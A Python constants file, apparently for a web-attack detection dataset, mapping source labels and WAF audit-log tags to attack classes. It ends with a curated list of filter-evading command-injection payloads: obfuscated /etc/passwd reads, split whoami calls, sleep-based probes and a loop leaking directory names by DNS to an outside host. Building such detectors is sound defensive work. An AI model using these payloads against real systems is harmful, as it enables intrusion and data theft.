"""Labels of the public data sets that the readers know, and a curated list of payloads."""

from __future__ import annotations

# Raw labels of each source and the class they stand for.
LABELS = {
    "modsec_learn": {"legitimate_dataset": "benign", "malicious_dataset": "sqli"},
    "payload_full": {"norm": "benign", "sqli": "sqli", "xss": "xss", "path-traversal": "path_traversal", "cmdi": "cmdi"},
    "payloads_csv": {"Benign": "benign", "Malicious": "xss"},
    "xss_dataset": {"0": "benign", "1": "xss"},
    "command_injection": {"0": "benign", "1": "cmdi"},
    "synthetic_nav": {"benign": "benign"},
    "synthetic_multifield": {"xss": "xss", "sqli": "sqli", "cmdi": "cmdi"},
    "synthetic_evasion": {"xss": "xss"},
    "seclists_cmdi": {"cmdi": "cmdi"},
    "patt_cmdi_curated": {"cmdi": "cmdi"},
    "synthetic_cmdi_minimal_context": {"cmdi": "cmdi"},
    "synthetic_cmdi_windows": {"cmdi": "cmdi"},
    "synthetic_cmdi_compound": {"cmdi": "cmdi"},
    "synthetic_nav_ecommerce": {"benign": "benign"},
}
#: Columns of the multi-label file that stand for a class, by priority.
MULTILABEL = {
    "sqli": ["66 - SQL Injection"],
    "path_traversal": ["126 - Path Traversal"],
    "cmdi": ["88 - OS Command Injection", "248 - Command Injection"],
    "xss": ["242 - Code Injection"],
}
#: Columns of that file that are request headers.
MULTILABEL_HEADERS = {
    "request_accept": "accept",
    "request_host": "host",
    "request_accept_language": "accept-language",
    "request_accept_encoding": "accept-encoding",
    "request_do_not_track": "dnt",
    "request_connection": "connection",
    "request_origin": "origin",
}
#: Texts of an audit log's messages that name a class, without regard to case, by priority.
MESSAGE_PATTERNS = {
    "sqli": ["attack-sqli", "WEB_ATTACK/SQL_INJECTION"],
    "path_traversal": ["attack-lfi", "WEB_ATTACK/DIR_TRAVERSAL", "WEB_ATTACK/FILE_INJECTION", "WEB_ATTACK/RFI"],
    "cmdi": ["attack-rce", "WEB_ATTACK/COMMAND_INJECTION", "WEB_ATTACK/PHP_INJECTION", "WEB_ATTACK/RCE", "language-shell", "attack-injection-php"],
    "xss": ["attack-xss", "WEB_ATTACK/XSS"],
}
#: Tags and rule ids of an audit log that name a class, by priority.
TAG_CLASSES = [
    ("sqli", ["attack-sqli"], []),
    ("xss", ["attack-xss"], []),
    ("path_traversal", ["attack-lfi", "attack-rfi"], ["930110", "930120", "930130"]),
    ("command_injection", ["attack-rce"], ["932150", "932160"]),
]
#: Curated command injections that evade simple filters.
CURATED = [
    ";ls%09-al%09/home",
    "cat $(echo . | tr '!-0' '\"-1')etc$(echo . | tr '!-0' '\"-1')passwd",
    'cat `echo -e "\\x2f\\x65\\x74\\x63\\x2f\\x70\\x61\\x73\\x73\\x77\\x64"`',
    "`echo $'cat\\x20\\x2f\\x65\\x74\\x63\\x2f\\x70\\x61\\x73\\x73\\x77\\x64'`",
    "cat `xxd -r -p <<< 2f6574632f706173737764`",
    "cat `xxd -r -ps <(echo 2f6574632f706173737764)`",
    "'w'hoami",
    '"wh"oami',
    "wh``oami",
    "who$()ami",
    "who$(echo am)i",
    "who`echo am`i",
    "time if [ $(whoami|cut -c 1) == s ]; then sleep 5; fi",
    'for i in $(ls /) ; do host "$i.3a43c7e4e57a8d0e2057.d.zhack.ca"; done',
    "/*$(sleep 5)`sleep 5``*/-sleep(5)-'/*$(sleep 5)`sleep 5` #*/-sleep(5)||'\"||sleep(5)||\"/*`*/",
]
# End of the fixed values.
